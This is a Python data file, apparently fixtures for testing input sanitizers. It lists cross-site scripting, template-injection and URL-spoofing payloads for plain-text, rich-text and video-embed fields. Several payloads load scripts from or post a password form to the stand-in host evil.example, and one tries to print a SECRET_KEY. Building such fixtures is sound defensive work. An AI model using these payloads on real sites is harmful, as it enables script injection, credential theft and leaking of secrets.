"""Words that would like to be something else. Data, for people to add to."""

from __future__ import annotations

# For whatever is plain text: headlines, names, captions, file names.
PLAIN = [
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "]]><script>alert(1)</script><![CDATA[",
    "-->\"'><iframe srcdoc='<script>parent.alert(1)</script>'>",
    "javascript:alert(1)//",
    "{{ 7|add:7 }}{% debug %}{{ settings.SECRET_KEY }}",
    "${alert(1)}`${alert(1)}`<%= 7*7 %>",
    "<!--category 0-->x<!--/--><!--rail-->",
    "<!--#include virtual='/admin/' --><esi:include src='/admin/'/>",
    "\u202egnp.exe <b onmouseover=alert(1)>bold",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "=HYPERLINK(1)|' !A0 @import url(//evil.example/x.css);",
]

# For whatever is rich text.
RICH = [
    "<script>alert(1)</script>",
    "<p>one<script src=//evil.example/x.js></script></p>",
    "<p><img src=x onerror=alert(1)></p>",
    "<img src='https://evil.example/pixel.gif'>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>x</a>",
    "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=alert()&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p><a href='javascript:alert(1)'>one</a></p>",
    "<p><a href=' &#14; java\nscript:alert(1)'>two</a></p>",
    "<p><a href='data:text/html,<script>alert(1)</script>'>three</a></p>",
    "<p><a href='vbscript:msgbox(1)'>four</a></p>",
    "<p><a href='//evil.example/' ping='//evil.example/ping' target=_blank>five</a></p>",
    "<p><a href='https://ok.example/' onclick=alert(1) style='position:fixed;inset:0'>six</a></p>",
    "<p style='background:url(//evil.example/b.png)' class=admin id=content>seven</p>",
    "<iframe src='https://evil.example/'></iframe><iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html,<script>alert(1)</script>'></object><embed src=//evil.example>",
    "<form action='https://evil.example/'><input name=password autofocus onfocus=alert(1)><button>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href='//evil.example/x.css'><style>@import '//evil.example/y'</style>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=//evil.example/a>",
    "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template><slot onslotchange=alert(1)>",
    "<p>{{ 7|add:7 }}{% debug %}</p><p><!--link 0-->x<!--/--></p>",
    "<p>" + "<b>" * 300 + "deep" + "</b>" * 300 + "</p>",
    "<table><tr><td><script>alert(1)</script><p onmouseover=alert(1)>cell</td></tr></table>",
    "<p hx-get=/admin/ data-wp-bind=x x-on:load=alert(1) @click=alert(1)>nine</p>",
    "<xmp><p title='</xmp><script>alert(1)</script>'></xmp><plaintext><script>alert(1)</script>",
]

# Where a player of a film is wanted.
FILMS = [
    "javascript:alert(1)//youtube.com/watch?v=abcdefghijk",
    "https://evil.example/?https://www.youtube.com/watch?v=abcdefghijk",
    "https://www.youtube.com.evil.example/watch?v=abcdefghijk",
    'https://youtu.be/abcdefghijk"><script>alert(1)</script>',
    "https://vimeo.com/12345678' onload='alert(1)",
    "//player.vimeo.com@evil.example/video/12345678",
]
